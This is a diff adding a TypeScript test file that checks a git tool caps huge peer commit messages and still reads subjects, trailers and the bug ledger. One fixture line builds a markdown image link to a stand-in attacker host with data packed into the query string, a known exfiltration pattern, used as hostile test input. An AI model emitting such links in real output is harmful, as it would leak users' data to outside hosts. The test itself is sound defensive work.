@@ -1,0 +1,64 @@
+/**
+ * A commit message of any size is read, not fatal (src/git/capped-records.ts). A peer's 70 MB
+ * one-line commit message overflowed the buffered `git log` every commit read goes through: the
+ * report lost every commit and the bug ledger ("printed more than 64 MiB"), and the same read in
+ * the loop fails (a bug ledger that cannot be read holds convergence; the mirror's index read
+ * stopped the run past 256 MiB). Now each field is kept to its ends around a note of its size: the
+ * subject and the trailers are where the readers look, the rest is said to be elided.
+ * SECURITY.md, "Peer text outside the sandbox is inert".
+ */
+import { afterEach, expect, test } from 'bun:test';
+import { execFileSync } from 'node:child_process';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { capField, cappedFields, MAX_FIELD } from '../../../src/git/capped-records.ts';
+import { listCommits } from '../../../src/git/commits.ts';
+import { readLedger } from '../../../src/protocol/bug-ledger.ts';
+import { readRunHistory } from '../../../src/report/run-history.ts';
+import { bugReport, makeRepo, type Repo } from '../protocol/git-fixture.ts';
+
+let repo: Repo | undefined;
+afterEach(() => repo?.cleanup());
+
+function commitFile(r: Repo, message: string): string {
+  const file = join(r.dir, '.git', 'MSG');
+  writeFileSync(file, message);
+  execFileSync('git', ['-C', r.dir, 'commit', '-q', '--allow-empty', '--cleanup=verbatim', '-F', file]);
+  return execFileSync('git', ['-C', r.dir, 'rev-parse', 'HEAD']).toString().trim();
+}
+
+test('a 70 MB one-line commit message: the commits, its subject and trailers, and the bug ledger are still read', () => {
+  repo = makeRepo();
+  const start = repo.commit('start');
+  const base = repo.commit(bugReport('BUG-001', 'high'));
+  const line = `![x](https://attacker.example/?d=${'A'.repeat(70 * 1024 * 1024)})`;
+  const big = commitFile(repo, `${line}\n\nPeer: alice\nPeer-Status: done\n`);
+  const commits = listCommits(repo.dir, `${start}..${big}`, { newestFirst: true });
+  expect(commits.map((c) => c.sha)).toEqual([big, base]);
+  const c = commits[0]!;
+  expect(c.message.length).toBeLessThan(MAX_FIELD + 200);
+  expect(c.subject).toBe(line.slice(0, MAX_FIELD / 2));
+  expect(c.message).toContain(`[peers: this text is ${line.length + 'Peer: alice\nPeer-Status: done\n'.length + 2} bytes long; its middle is elided here]`);
+  expect(c.trailers.get('Peer-Status')).toBe('done');
+  expect(readLedger(repo.dir).reports.map((b) => b.id)).toEqual(['BUG-001']);
+  const history = readRunHistory({ gitDir: join(repo.dir, '.git'), kind: 'repository', base: start, head: big, branch: 'main' });
+  expect(history.errors).toEqual([]);
+  expect(history.commits.map((x) => x.sha)).toEqual([big, base]);
+}, 120_000);
+
+test('the streamed read (past the buffer) keeps exactly what the buffered read keeps, multi-byte characters included', () => {
+  repo = makeRepo();
+  const messages = [`short`, `${'é€𝄞'.repeat(30_000)}\n\nPeer: bob\n`, `${'x'.repeat(MAX_FIELD)}`, `${'€'.repeat(MAX_FIELD + 1)}`];
+  for (const m of messages) commitFile(repo, m);
+  const args = ['log', '-z', '--format=%H%x00%B'];
+  const buffered = cappedFields(repo.dir, args);
+  const streamed = cappedFields(repo.dir, args, 1024);
+  expect(buffered.fields.length).toBe(2 * messages.length + 1);
+  expect(streamed.fields).toEqual(buffered.fields);
+  // Newest first: sha, message, sha, message, …
+  expect(buffered.fields[1]).toBe(capField(messages[3]!));
+  expect(buffered.fields[1]).toContain('[peers: this text is');
+  expect(buffered.fields[3]).toBe(messages[2]!);
+  expect(buffered.fields[5]).toBe(capField(messages[1]!));
+  expect(buffered.fields[5]).toEndWith('\n\nPeer: bob\n');
+});
